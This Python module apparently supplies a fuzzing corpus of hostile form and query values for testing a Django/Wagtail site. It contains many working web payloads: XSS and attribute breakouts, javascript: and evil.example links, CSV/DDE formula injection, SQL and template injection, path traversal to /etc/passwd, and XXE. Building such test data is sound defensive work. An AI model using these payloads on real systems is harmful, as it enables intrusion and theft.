"""A corpus of hostile input values: plain data, no Django, reusable by any test.

Each entry is a ``HostileValue(category, text)``. Most texts contain ``PLACEHOLDER``;
``marked(value, token)`` replaces it by a test's unique token, so that a test can find
where the value shows up again (and whether it shows up as markup). Texts without the
placeholder (integers, invalid dates) are posted as they are.

Also here: raw invalid UTF-8 byte strings (for files), percent-encoded invalid UTF-8 (for
query strings), a deeply nested JSON document and a 1 MB text.
"""

from typing import NamedTuple

PLACEHOLDER = "HVTOKEN"


class HostileValue(NamedTuple):
    category: str
    text: str


def marked(value, token):
    """The value's text with its placeholder replaced by ``token``."""
    text = value.text if isinstance(value, HostileValue) else value
    return text.replace(PLACEHOLDER, token)


T = PLACEHOLDER

# Script and markup injection (each carries the token inside the script or markup).
XSS = [
    f"<script>alert('{T}')</script>",
    f'<script>alert("{T}")</script>',
    f"<SCRIPT SRC=//evil.example/{T}.js></SCRIPT>",
    f"<script src=data:,alert('{T}')></script>",
    f"</script><script>alert('{T}')</script>",
    f"</textarea><script>alert('{T}')</script>",
    f"</title><script>alert('{T}')</script>",
    f"</style><script>alert('{T}')</script>",
    f"--><script>alert('{T}')</script><!--",
    f"]]><script>alert('{T}')</script>",
    f"<img src=x onerror=alert('{T}')>",
    f'<img src="x" onerror="alert(\'{T}\')">',
    f"<img src=x onerror=alert`{T}`>",
    f"<IMG SRC=javascript:alert('{T}')>",
    f"<img src=x:alert({T}) onerror=eval(src)>",
    f"<svg onload=alert('{T}')>",
    f"<svg/onload=alert('{T}')>",
    f"<svg><script>alert('{T}')</script></svg>",
    f"<svg><animate onbegin=alert('{T}') attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{T}')>",
    f"<body onload=alert('{T}')>",
    f"<iframe src=javascript:alert('{T}')></iframe>",
    f"<iframe srcdoc=\"<script>alert('{T}')</script>\"></iframe>",
    f"<object data=javascript:alert('{T}')></object>",
    f"<embed src=javascript:alert('{T}')>",
    f"<a href=javascript:alert('{T}')>click</a>",
    f"<a href=\"javascript:alert('{T}')\">click {T}</a>",
    f"<form action=javascript:alert('{T}')><button>x</button></form>",
    f"<button formaction=javascript:alert('{T}')>x</button>",
    f"<input autofocus onfocus=alert('{T}')>",
    f"<select autofocus onfocus=alert('{T}')>",
    f"<textarea autofocus onfocus=alert('{T}')>",
    f"<details open ontoggle=alert('{T}')>",
    f"<video><source onerror=alert('{T}')>",
    f"<audio src=x onerror=alert('{T}')>",
    f"<marquee onstart=alert('{T}')>",
    f"<div style=\"background:url(javascript:alert('{T}'))\">",
    f"<div style=\"width:expression(alert('{T}'))\">",
    f"<style>@import 'javascript:alert(\"{T}\")';</style>",
    f"<link rel=stylesheet href=javascript:alert('{T}')>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:alert('{T}')\">",
    f"<base href=javascript:alert('{T}')//>",
    f"<b>{T}</b>",
    f"<i>{T}</i><u>{T}x</u>",
    f"<h1>{T}</h1>",
    f"<p onclick=alert('{T}')>{T}</p>",
    f"<table background=javascript:alert('{T}')>",
    f"<scr<script>ipt>alert('{T}')</scr</script>ipt>",
    f"<<script>alert('{T}');//<</script>",
    f"<script>alert('{T}')//",
    f"<img src=x onerror=alert('{T}')//",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{T}')>\">",
    f"<template><script>alert('{T}')</script></template>",
    f"<xmp><script>alert('{T}')</script></xmp>",
    f"<!--{T}--><script>alert('{T}')</script>",
    f"<![CDATA[<script>alert('{T}')</script>]]>",
    f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{T}</x:script>',
    f"&lt;script&gt;alert('{T}')&lt;/script&gt;",
    f"&#60;script&#62;alert('{T}')&#60;/script&#62;",
    f"\\u003cscript\\u003ealert('{T}')\\u003c/script\\u003e",
    f"%3Cscript%3Ealert('{T}')%3C/script%3E",
    f"＜script＞alert('{T}')＜/script＞",
    f"<ſcript>alert('{T}')</ſcript>",
    f"<script\x00>alert('{T}')</script>",
    f"<img\x0csrc=x\x0conerror=alert('{T}')>",
    f"<img\nsrc=x\nonerror=alert('{T}')>",
    f"<a href=\"&#106;avascript:alert('{T}')\">x</a>",
    f"<a href=\"jav&#x09;ascript:alert('{T}')\">x</a>",
    f"<svg><a xlink:href=\"javascript:alert('{T}')\"><text>{T}</text></a></svg>",
    f"<isindex action=javascript:alert('{T}') type=image>",
]

# Breaking out of an HTML attribute, a JavaScript string or a JSON string.
ATTRIBUTE_BREAKOUTS = [
    f'" onmouseover="alert(\'{T}\')"',
    f"\"onmouseover=alert('{T}') x=\"",
    f"' onmouseover='alert(\"{T}\")'",
    f"'onfocus=alert('{T}') autofocus '",
    f"\" autofocus onfocus=\"alert('{T}')",
    f"\"><script>alert('{T}')</script>",
    f"'><script>alert('{T}')</script>",
    f"\"><img src=x onerror=alert('{T}')>",
    f"'><img src=x onerror=alert('{T}')>",
    f'" style="position:fixed;top:0;left:0;width:100%;height:100%" x="{T}',
    f"\"/><svg onload=alert('{T}')>",
    f"` onmouseover=alert('{T}') `",
    f'" data-{T}="1',
    f'" {T}="1',
    f"' {T}='1",
    f'x" hidden x="{T}',
    f"\";alert('{T}');//",
    f"';alert('{T}');//",
    f"\\\";alert('{T}');//",
    f"</script><script>alert('{T}')</script>\"",
    f"\"}}]}}<script>alert('{T}')</script>",
    f'{T}" href="javascript:alert(1)',
    f"{T}' href='javascript:alert(1)",
    f'""><"{T}"',
    f'"><!--{T}',
    f'"><a href=//evil.example>{T}</a>',
    f'"><form action=//evil.example><input name={T}>',
    f'"><meta http-equiv=refresh content=0;url=//evil.example/{T}>',
    f'"><iframe src=//evil.example/{T}>',
    f'"><base href=//evil.example/{T}/>',
]

# Links that run script or point somewhere else than they say.
JAVASCRIPT_URLS = [
    f"javascript:alert('{T}')",
    f"JaVaScRiPt:alert('{T}')",
    f" javascript:alert('{T}')",
    f"\tjavascript:alert('{T}')",
    f"\x01javascript:alert('{T}')",
    f"java\tscript:alert('{T}')",
    f"java\nscript:alert('{T}')",
    f"java\x00script:alert('{T}')",
    f"javascript&colon;alert('{T}')",
    f"javascript://%0aalert('{T}')",
    f"javascript://comment%0Aalert('{T}')",
    f"jAvAsCrIpT:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('{T}') )//",
    f"vbscript:msgbox('{T}')",
    f"data:text/html,<script>alert('{T}')</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={T}",
    f"data:image/svg+xml,<svg onload=alert('{T}')>",
    f"https://evil.example/{T}",
    f"//evil.example/{T}",
    f"/\\evil.example/{T}",
    f"\\\\evil.example\\{T}",
    f"https://example.ee@evil.example/{T}",
    f"https://evil.example#@example.ee/{T}",
    f"http://[::1]/{T}",
    f"file:///etc/passwd#{T}",
    f"mailto:x@evil.example?body={T}",
    f"[{T}](javascript:alert(1))",
    f"[{T}](https://evil.example)",
    f"![{T}](https://evil.example/x.png)",
    f"www.evil.example/{T}<script>",
    f"https://example.ee/?q=\"><script>alert('{T}')</script>",
]

# Bidirectional overrides, invisible characters, odd Unicode.
UNICODE = [
    f"\u202e{T}gpj.exe",
    f"{T}\u202egnp.exe\u202c",
    f"\u202d{T}\u202c",
    f"\u2066{T}\u2069",
    f"\u2067{T}\u2069",
    f"\u2068{T}\u2069",
    f"\u200f{T}\u200e",
    f"\u061c{T}",
    f"\u200b{T}\u200b",
    f"\u200c\u200d{T}\u2060",
    f"\ufeff{T}",
    f"{T}\ufeff\ufeff",
    f"\u00ad{T}\u00ad",
    f"{T}\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    f"Z̷̢̛̤͍̈́a̴̡̰͆l̸̨̏g̵͕̈o̶̧̐ {T}",
    f"{T} 𝕏𝔸𝕊𝕊 🏳️‍🌈👨‍👩‍👧‍👦",
    f"{T} \U0001f4a9\U0001f600\U0001f44d\U0001f3fd",
    f"{T} ﷽﷽﷽",
    f"{T} مرحبا بالعالم",
    f"{T} שלום עולם",
    f"{T} Привет, мир; Tere, maailm: õäöü ŠŽ",
    f"{T} 𠜎𠜱𠝹𠱓",
    f"{T}\u2028line\u2029paragraph",
    f"{T}\u0085next",
    f"{T}\uffff\ufffe",
    f"{T}\ufffd\ufffd",
    f"\u3000{T}\u3000",
    f"{T} ａｄｍｉｎ",
    f"{T} раураl.com",
    f"{T} İı ß ﬁ",
]

# NUL and the other control characters (C0, DEL, C1), alone and in the middle of a text.
CONTROL_CHARACTERS = (
    [f"{T}{chr(code)}x" for code in range(0x00, 0x20)]
    + [f"{T}\x7fx", f"{T}\x80x", f"{T}\x9bx", f"{T}\x9fx"]
    + [f"\x00{T}", f"{T}\x00", f"\x00\x00\x00{T}\x00\x00\x00", f"{T}\x1b[31mred\x1b[0m"]
)

# Line breaks that try to add a header to an e-mail, a line to an iCalendar file or a CSV
# row.
LINE_INJECTION = [
    f"{T}\r\nBcc: hv-injected@evil.example",
    f"{T}\nBcc: hv-injected@evil.example",
    f"{T}\r\nX-HV-INJECTED: 1",
    f"{T}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-HV-INJECTED:1\r\nSUMMARY:{T}",
    f"{T}\nX-HV-INJECTED:1",
    f"{T}\r\n\r\n<script>alert(1)</script>",
    f'{T}","=HV()","',
    f"{T}\n=1+1",
    f"{T};X-HV-INJECTED=1",
    f"{T}%0d%0aX-HV-INJECTED:%201",
]

# Spreadsheet formulas: the prefixes = + - @ and a tab or carriage return before one.
FORMULAS = [
    f'=HYPERLINK("https://evil.example/{T}","click")',
    f'=1+1+0*LEN("{T}")',
    f"=cmd|' /C calc'!A0 {T}",
    f'=WEBSERVICE("https://evil.example/{T}")',
    f'=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a") {T}',
    f"=2+5+cmd|' /C calc'!A0 {T}",
    f"+1+1 {T}",
    f"+cmd|' /C calc'!A0 {T}",
    f"+SUM(1;2) {T}",
    f"-1+1 {T}",
    f"-cmd|' /C calc'!A0 {T}",
    f"-2+3+cmd|' /C calc'!A0 {T}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {T}",
    f"@{T}",
    f"\t=1+1 {T}",
    f"\r=1+1 {T}",
    f"\t@SUM(1) {T}",
    f"\r+1 {T}",
    f"\t-1 {T}",
    f" =1+1 {T}",
    f"'=1+1 {T}",
    f"''=1+1 {T}",
    f'="{T}"',
    f"={T}",
    f"+{T}",
    f"-{T}",
    f'=DDE("cmd";"/C calc";"{T}")',
    f"=HYPERLINK(\"javascript:alert('{T}')\")",
    f"＝1+1 {T}",
    f"=1+1\n{T}",
]

# Numbers where an id or a count is expected.
INTEGERS = [
    "9" * 30,
    "1" + "0" * 29,
    "-" + "9" * 30,
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551616",
    "-9223372036854775809",
    "0",
    "-1",
    "-0",
    "00000000000000000000000000001",
    "1e309",
    "1e-309",
    "NaN",
    "Infinity",
    "-Infinity",
    "1.5",
    "0x10",
    "1_000",
    " 1 ",
    "١٢٣",
    "１２３",
    "1; DROP TABLE avp_wagtail_actionitempage;--",
    f"1{T}",
    f"{T}",
    "",
    " ",
    "[]",
]

# Other injections: templates, SQL, format strings, paths.
INJECTIONS = [
    f"{{{{ 7*7 }}}}{T}",
    f"{{% debug %}}{T}",
    f"{{% load static %}}{{{{ settings.SECRET_KEY }}}}{T}",
    f"{{{{request.user.password}}}}{T}",
    f"${{7*7}}{T}",
    f"#{{7*7}}{T}",
    f"<%= 7*7 %>{T}",
    f"%s%s%s%n{T}",
    f"%(secret)s{T}",
    f"{{0.__class__}}{T}",
    f"' OR '1'='1' -- {T}",
    f'" OR "1"="1" -- {T}',
    f"'; DROP TABLE wagtailcore_page; -- {T}",
    f"1' UNION SELECT password FROM auth_user -- {T}",
    f"\\'; SELECT pg_sleep(0); -- {T}",
    f"../../../../etc/passwd{T}",
    f"..\\..\\..\\windows\\win.ini{T}",
    f"{T}%00.html",
    f"{T}\\",
    f"{T}\\\\\\",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{T}</x>',
    f"&{T};",
    f"&amp;{T}&lt;&gt;&quot;",
    f"{T}&#0;&#x0;",
    f"{T}&nbsp;&shy;&zwnj;",
]

# E-mail addresses and names as a form might receive them.
ADDRESSES = [
    f"\"<script>alert('{T}')</script>\"@example.ee",
    f"{T}@example.ee<script>",
    f"{T}@example.ee\r\nBcc: hv-injected@evil.example",
    f"{T}@example.ee\nCc: hv-injected@evil.example",
    f"{T}@example.ee,hv-injected@evil.example",
    f"{T}@example.ee; hv-injected@evil.example",
    f"Mari <{T}@example.ee>",
    f'"Mari\\" onmouseover=x" <{T}@example.ee>',
    f"{T}@[127.0.0.1]",
    f"{T}@localhost",
    f"{T}+tag@example.ee",
    f"{T}@ex\u202eample.ee",
    f"{T}@xn--80ak6aa92e.com",
    f"{T}@пример.рф",
    f"{T}\x00@example.ee",
]

# Huge and deeply nested values (posted where a field takes a long text).
HUGE = [
    T + "A" * (1024 * 1024),
    T + "<" * 100_000,
    T + "\u202e" * 50_000,
    (T + " ") * 20_000,
    "[" * 10_000 + T + "]" * 10_000,
    '{"a":' * 5_000 + '"' + T + '"' + "}" * 5_000,
]


def _entries():
    groups = [
        ("xss", XSS),
        ("attribute", ATTRIBUTE_BREAKOUTS),
        ("javascript_url", JAVASCRIPT_URLS),
        ("unicode", UNICODE),
        ("control", CONTROL_CHARACTERS),
        ("line_injection", LINE_INJECTION),
        ("formula", FORMULAS),
        ("integer", INTEGERS),
        ("injection", INJECTIONS),
        ("address", ADDRESSES),
        ("huge", HUGE),
    ]
    return [HostileValue(category, text) for category, texts in groups for text in texts]


CORPUS = _entries()

# Categories whose every value must carry the placeholder (markup can be detected).
MARKED_CATEGORIES = {"xss", "attribute", "javascript_url", "formula", "line_injection"}

# Values short enough for any text field (names: 50 characters and more).
SHORT = [value for value in CORPUS if len(value.text) <= 200]

# Raw bytes that are not UTF-8: for uploaded files.
INVALID_UTF8_BYTES = [
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",  # a UTF-16 surrogate, encoded
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\x80",
    b"\xc3",  # truncated sequence
    b"\xfe\xff\x00<\x00s",
    b"caf\xe9",  # Latin-1
    b"\x8d\x9a\x9f",  # Windows-1252 leftovers
]

# The same as percent-encoded query string values.
PERCENT_ENCODED_INVALID_UTF8 = [
    "".join(f"%{byte:02X}" for byte in raw) for raw in INVALID_UTF8_BYTES
] + ["%", "%%", "%G0", "%0", "%00", "%u003c", "%E2%80%AE", "%0D%0AX-HV-INJECTED:1"]


def nested_json(depth=100_000):
    """A JSON text nested ``depth`` levels deep (a list of lists ... of a string)."""
    return "[" * depth + '"' + T + '"' + "]" * depth


def nested_json_object(depth=100_000):
    return '{"items":' * depth + "[]" + "}" * depth
